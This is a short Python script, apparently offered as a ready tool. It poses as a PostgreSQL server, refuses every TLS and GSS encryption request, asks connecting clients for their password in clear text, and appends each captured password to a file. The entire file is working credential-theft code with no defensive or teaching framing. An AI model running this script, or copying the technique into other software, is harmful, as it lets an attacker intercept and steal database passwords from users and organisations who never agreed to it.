"""A man in the middle between a client and PostgreSQL: answers that it has no TLS, asks for the password in clear text,
and writes down what it gets, one password a line.

usage: false_database.py ADDRESS PORT FILE
"""

import socket
import struct
import sys

SSL_REQUEST = 80877103
GSS_REQUEST = 80877104
ASK_FOR_PASSWORD = b"R" + struct.pack("!ii", 8, 3)


def read_exactly(client, count):
    data = b""
    while len(data) < count:
        piece = client.recv(count - len(data))
        if not piece:
            raise ConnectionError
        data += piece
    return data


def read_startup(client):
    while True:
        length, code = struct.unpack("!ii", read_exactly(client, 8))
        if code not in (SSL_REQUEST, GSS_REQUEST):
            return read_exactly(client, length - 8)
        client.sendall(b"N")


def password_of(client):
    read_startup(client)
    client.sendall(ASK_FOR_PASSWORD)
    kind = read_exactly(client, 1)
    length = struct.unpack("!i", read_exactly(client, 4))[0]
    body = read_exactly(client, length - 4)
    return body.rstrip(b"\0") if kind == b"p" else b""


def main():
    address, port, file = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    with socket.create_server((address, port)) as server, open(file, "ab", buffering=0) as caught:
        while True:
            client = server.accept()[0]
            with client:
                client.settimeout(5)
                try:
                    caught.write(password_of(client) + b"\n")
                except OSError:
                    pass


main()
